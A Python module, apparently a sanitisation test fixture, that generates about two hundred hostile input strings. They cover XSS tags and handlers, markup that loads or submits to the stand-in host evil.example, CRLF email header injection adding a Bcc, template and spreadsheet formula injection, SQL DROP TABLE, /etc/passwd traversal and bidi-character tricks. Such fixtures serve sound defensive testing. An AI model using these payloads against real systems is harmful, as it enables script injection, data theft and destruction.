"""Two hundred texts that want to be more than texts. Whatever they become is told by ``evil.example``, by an element
``<pwn-…>`` or by a handler.
"""

ENDINGS = ("", '">', "'>", "</title>", "</textarea>", "--></p>", "</script>", "]]>")
ELEMENTS = (
    "<pwn-x>",
    "<script>pwn()</script>",
    "<img src=//evil.example/x>",
    "<img src=x onerror=pwn()>",
    "<svg onload=pwn()>",
    "<iframe src=//evil.example>",
    "<form action=//evil.example>",
    "<a href=//evil.example>x</a>",
    "<a href=javascript:pwn()>x</a>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content=0;//evil.example>",
    "<base href=//evil.example/>",
    "<style>@import'//evil.example'</style>",
    "<object data=//evil.example>",
    "<video poster=//evil.example>",
    "<button formaction=//evil.example>",
    "<table background=//evil.example>",
)
ATTRIBUTES = (
    '" onfocus=pwn() autofocus "',
    "' onfocus=pwn() autofocus '",
    '" style="background:url(//evil.example)" "',
    " onclick=pwn() ",
    "` onerror=pwn() `",
    '" href="//evil.example',
    '" hx-get="//evil.example" hx-trigger="load" "',
)
LINES = ("\r\n", "\n", "\r", "\u2028", "\u2029", "\x0b", "\x0c", "\x85", "%0d%0a", "\\r\\n")
HEADERS = ("Bcc: x@evil.example", "Content-Type: text/html", "X-Audience: customer")
MARKUP = (
    "![x](https://evil.example/x.png)",
    "[x](javascript:pwn())",
    "[x](https://evil.example)",
    "javascript:pwn()//",
    "JaVaScRiPt:pwn()",
    "java\tscript:pwn()",
    "data:text/html,<script>pwn()</script>",
    "//evil.example/",
    "https://evil.example/",
    "<https://evil.example/>",
    "&lt;pwn-x&gt;",
    "&#60;pwn-x&#62;",
    "\\x3cpwn-x\\x3e",
    "\\u003cpwn-x\\u003e",
    "<<pwn-x>",
    "<pwn-x/",
    "\uff1cpwn-x\uff1e",
    "{{ settings.SECRET_KEY }}",
    "{% include 'pwn' %}",
    "{{ 7|add:7 }}<pwn-x>",
    "${7*7}<pwn-x>",
    "%(name)s %s %d",
    "{0} {name}",
    '=HYPERLINK("//evil.example")',
    "+cmd|' /C pwn'!A0",
    "@SUM(1)",
    "'; DROP TABLE x; --",
    "../../../etc/passwd",
)
SIGNS = (
    "a\u202eb\u202c<pwn-x>",
    "\u2066<pwn-x>\u2069",
    "a\u200fb<pwn-x>",
    "\u061c\ufeff<pwn-x>",
    "z\u200b<pwn-x>",
    "\x08\x1b[31m<pwn-x>",
    "\U0001f480<pwn-x>",
    "e" + "\u0301" * 30,
)
PAYLOADS = (
    *(ending + element for element in ELEMENTS for ending in ENDINGS),
    *(quote for quote in ATTRIBUTES),
    *(f"x{line}{header}" for line in LINES for header in HEADERS),
    *MARKUP,
    *SIGNS,
)
